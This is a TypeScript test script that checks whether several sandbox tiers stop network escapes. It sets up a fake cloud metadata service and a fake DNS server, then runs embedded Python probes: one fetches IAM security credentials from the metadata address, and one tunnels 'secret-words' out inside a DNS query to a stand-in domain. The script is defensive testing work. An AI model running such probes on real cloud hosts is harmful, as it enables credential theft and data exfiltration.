/**
 * A host whose network has what programs look for: a cloud's metadata service and a name server that would carry
 * anything out. Runs in a network namespace of its own. Tries every probe there without walls and in each tier that is
 * named as an argument, and prints what came of it, as JSON.
 */
import { execFile, execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MicrovmSandbox } from '../../src/adapters/sandboxes/microvm/open-microvm-sandbox.ts';
import { ContainerSandbox } from '../../src/adapters/sandboxes/oci/open-container-sandbox.ts';
import { GvisorSandbox } from '../../src/adapters/sandboxes/oci/open-gvisor-sandbox.ts';
import { ProcessSandbox } from '../../src/adapters/sandboxes/process/open-process-sandbox.ts';
import { systemClock } from '../../src/base/clock.ts';
import { readyProfiles, type SandboxTier } from '../../src/model/profile.ts';
import type { EscapeAttempt } from '../../src/ports/sandbox.ts';
import { GOT } from './probe.ts';

export interface NetworkResult {
  readonly probe: string;
  /** `bare`, or a tier. */
  readonly where: string;
  readonly got: boolean;
  /** Whether what was to be carried out has arrived. */
  readonly carried: boolean;
  readonly noticed: readonly Pick<EscapeAttempt, 'kind' | 'severity'>[];
}

const UP = `
import fcntl, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def call(what, name, rest):
    fcntl.ioctl(s, what, struct.pack('16s16s8x', name, rest))
address = lambda text: struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton(text))
call(0x8916, b'lo', address('127.0.0.1'))
call(0x8914, b'lo', struct.pack('H14x', 0x49))
call(0x8916, b'lo:1', address('169.254.169.254'))
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
fcntl.ioctl(six, 0x8916, struct.pack('16sIi', socket.inet_pton(socket.AF_INET6, 'fd00:ec2::254'), 128, 1))
`;
/** How long a probe waits for an answer, in seconds: one that is sure to come, and one that must not. */
const WAIT = { bare: 'wait = 20', walled: 'wait = 3' } as const;
const METADATA = (host: string) => `
import urllib.request
request = urllib.request.Request('http://${host}/latest/meta-data/iam/security-credentials/')
print('GOT', urllib.request.urlopen(request, timeout=wait).read())`;
const TUNNEL = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(wait)
name = b''.join(bytes([len(part)]) + part for part in [b'secret-words', b'out', b'example']) + b'\\0'
s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\1\\0\\1', ('127.0.0.53', 53))
print('GOT', s.recv(100))`;
const probes = {
  'asks the metadata service of a cloud': METADATA('169.254.169.254'),
  'asks it by IPv6': METADATA('[fd00:ec2::254]'),
  'carries words out in a name': TUNNEL,
};

const PATH = ['/usr/local/bin', '/usr/bin', '/bin', '/usr/sbin', '/sbin'];
const isRoot = process.getuid?.() === 0;
const { code } = readyProfiles;
if (code === undefined) throw new Error('`code` is a ready profile');

execFileSync('/usr/bin/python3', ['-c', UP]);
let carried = false;
const metadata = ['169.254.169.254', 'fd00:ec2::254'].map((address) =>
  createServer((_, response) => {
    carried = true;
    response.end('a-role');
  }).listen(80, address),
);
const names = createSocket('udp4', (query, from) => {
  carried ||= query.includes('secret-words');
  names.send(query, from.port, from.address);
}).bind(53, '127.0.0.53');

const sandboxes = {
  process: () => new ProcessSandbox({ clock: systemClock, path: PATH, isRoot }),
  container: () => new ContainerSandbox({ clock: systemClock, path: PATH, image: process.env['CHAPERONE_IMAGE'] }),
  gvisor: () => new GvisorSandbox({ clock: systemClock, path: PATH, isRoot }),
  microvm: () =>
    new MicrovmSandbox({
      ...{ clock: systemClock, path: PATH, isRoot, cacheFolder: join(tmpdir(), 'chaperone', 'machines') },
      kernelRoot: process.env['CHAPERONE_KERNEL'] ?? '/',
    }),
};
const results: NetworkResult[] = [];
for (const [probe, source] of Object.entries(probes)) {
  const add = (where: string, stdout: string, noticed: NetworkResult['noticed']) => {
    results.push({ probe, where, got: stdout.includes(GOT), carried, noticed });
    carried = false;
  };
  const { promise, resolve } = Promise.withResolvers<string>();
  execFile('/usr/bin/python3', ['-c', WAIT.bare + source], (_, stdout) => resolve(stdout));
  add('bare', await promise, []);
  for (const tier of process.argv.slice(2)) {
    const sandbox = sandboxes[tier as keyof typeof sandboxes]();
    const profile = {
      ...code,
      tier: tier as SandboxTier,
      timeMs: 120_000,
      limits: isRoot ? 'total' : 'per-process',
    } as const;
    const program = { kind: 'code', language: 'python', source: WAIT.walled + source } as const;
    const { stdout, attempts } = await sandbox.run({ profile, program, files: [] });
    add(
      tier,
      stdout,
      attempts.map(({ kind, severity }) => ({ kind, severity })),
    );
    await sandbox.close();
  }
}
for (const server of metadata) server.close();
names.close();
process.stdout.write(JSON.stringify(results));
